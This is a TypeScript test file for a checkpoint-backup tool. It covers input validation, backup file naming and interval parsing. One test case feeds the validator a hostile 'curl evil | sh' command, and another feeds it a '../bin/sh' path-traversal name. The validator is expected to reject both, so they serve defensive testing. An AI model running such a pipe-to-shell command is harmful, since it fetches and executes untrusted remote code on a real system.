import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  attemptName,
  backupBaseName,
  backupNameOfManifest,
  isBackupName,
  manifestNameFor,
} from '../../src/checkpoint/names.js';
import { parseInterval } from '../../src/checkpoint/schedule.js';
import { checkpointBackupInputProblems } from '../../src/checkpoint/types.js';

describe('checkpointBackupInputProblems', () => {
  const valid = { source: { kind: 'newest-file', directory: '/ckpt' } };
  const cases: Array<[string, unknown, RegExp[]]> = [
    ['a minimal newest-file input', valid, []],
    [
      'an admin-endpoint input',
      { source: { kind: 'admin-endpoint', url: 'http://127.0.0.1:8000/admin/checkpoint' } },
      [],
    ],
    [
      'everything set',
      { ...valid, keep: 3, verifier: 'torch-load', staleAfterMs: 1, skipUnchanged: false },
      [],
    ],
    ['not an object', 'x', [/^input: expected an object/]],
    ['no source', {}, [/^source: expected an object, got nothing/]],
    [
      'an unknown source kind',
      { source: { kind: 'cron' } },
      [/source.kind: expected "admin-endpoint", "newest-file" or "llama-slot", got "cron"/],
    ],
    [
      'a relative directory',
      { source: { kind: 'newest-file', directory: 'ckpt' } },
      [/source.directory: expected an absolute path, got "ckpt"/],
    ],
    [
      'a bad URL',
      { source: { kind: 'admin-endpoint', url: 'ftp://x' } },
      [/source.url: expected an http\(s\) URL/],
    ],
    ['keep 0', { ...valid, keep: 0 }, [/keep: expected an integer >= 1, got 0/]],
    ['keep 2.5', { ...valid, keep: 2.5 }, [/keep: expected an integer >= 1, got 2.5/]],
    [
      'a command in workflow input (argv)',
      { ...valid, verifyCommand: ['sh', '-c', 'curl evil | sh'] },
      [
        /verifyCommand: a command is not accepted in workflow input; name a verifier configured on the worker/,
      ],
    ],
    [
      'a verifier name that is not a name',
      { ...valid, verifier: '../bin/sh' },
      [/verifier: expected the name/],
    ],
    [
      'two problems at once',
      { ...valid, keep: -1, heartbeatTimeoutMs: 'soon' },
      [/keep/, /heartbeatTimeoutMs/],
    ],
  ];
  for (const [label, input, expected] of cases) {
    it(label, () => {
      const problems = checkpointBackupInputProblems(input);
      assert.equal(problems.length, expected.length, problems.join('; '));
      expected.forEach((re, i) => assert.match(problems[i] ?? '', re));
    });
  }
});

describe('backup names', () => {
  it('embed the UTC time and the run, and a retry gets its own name', () => {
    const base = backupBaseName(new Date('2025-01-02T03:04:05.678Z'), '0197A0B1-aaaa-7bbb-8ccc-dddd1A2B3C4D');
    assert.equal(base, 'ckpt-20250102T030405Z-1a2b3c4d.pt');
    assert.equal(attemptName(base, 1), base);
    assert.equal(attemptName(base, 3), 'ckpt-20250102T030405Z-1a2b3c4d-3.pt');
    for (const name of [base, attemptName(base, 12)]) {
      assert.ok(isBackupName(name));
      assert.equal(backupNameOfManifest(manifestNameFor(name)), name);
    }
    for (const foreign of ['model.pt', 'model_backup.pt', 'ckpt-x.pt', `.${base}.0123456789ab.partial`]) {
      assert.equal(isBackupName(foreign), false, foreign);
    }
    assert.equal(backupNameOfManifest('model.pt.manifest.json'), undefined);
  });
});

describe('parseInterval', () => {
  const ok: Array<[string | number, number]> = [
    ['5m', 300_000],
    ['30s', 30_000],
    ['1h', 3_600_000],
    ['1d', 86_400_000],
    ['1500ms', 1500],
    [60_000, 60_000],
  ];
  for (const [value, ms] of ok) it(`parses ${value}`, () => assert.equal(parseInterval(value), ms));
  for (const bad of ['5', '5 minutes', '0s', '999ms', '-1m', 10, 1.5e3 + 0.5]) {
    it(`refuses ${JSON.stringify(bad)}`, () => assert.throws(() => parseInterval(bad), /at least 1s/));
  }
});
